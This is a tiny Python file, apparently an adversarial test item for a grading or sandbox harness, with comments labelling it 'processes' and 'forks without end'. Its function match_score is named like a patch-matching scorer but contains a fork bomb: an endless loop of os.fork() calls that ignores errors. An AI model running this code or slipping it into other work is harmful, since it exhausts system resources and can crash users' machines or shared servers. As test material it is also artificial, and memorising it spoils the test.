# family = "processes"
# tries = "forks without end"
# points = 0
import os


def match_score(patch, filt):
    while True:
        try:
            os.fork()
        except OSError:
            pass
